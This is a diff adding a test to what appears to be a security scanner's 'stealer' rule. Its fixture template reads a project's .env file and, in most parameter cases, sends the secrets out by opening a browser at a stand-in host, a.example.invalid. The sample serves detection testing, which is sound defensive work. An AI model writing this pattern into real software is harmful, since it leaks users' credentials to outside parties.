@@ -215,3 +215,32 @@ def test_a_page_that_shows_a_command_runs_none(
     program = program_of(form, {"sample/__init__.py": "", path: text})
     hits = [hit for hit in BY_ID["attack-command"].run(program) if isinstance(hit, Hit)]
     assert max((hit.severity for hit in hits if hit.severity is not None), default=None) is severity
+
+
+CLIENT = """
+import webbrowser
+from other.api import {made}
+class Command:
+    def __init__(self, key):
+        self.client = {made}(api_key=key)
+    def create(self):
+        with open(".env") as file:
+            answer = self.client.create({{"env": file.read()}})
+        webbrowser.open("https://a.example.invalid/page/" + {told})
+"""
+
+
+@pytest.mark.parametrize(
+    ("made", "told", "severity"),
+    [
+        ("ServiceClient", 'answer.json()["id"]', None),
+        ("ServiceClient", "answer.shown()", Severity.HIGH),
+        ("ServiceClient", 'self.client.last("env")', Severity.HIGH),
+        ("TestClient", 'answer.json()["env"]', Severity.HIGH),
+        ("Holder", 'answer.json()["env"]', Severity.HIGH),
+    ],
+)
+def test_what_a_service_answers_is_not_what_its_client_was_given(
+    made: str, told: str, severity: Severity | None
+) -> None:
+    assert worst("stealer", CLIENT.format(made=made, told=told)) is severity
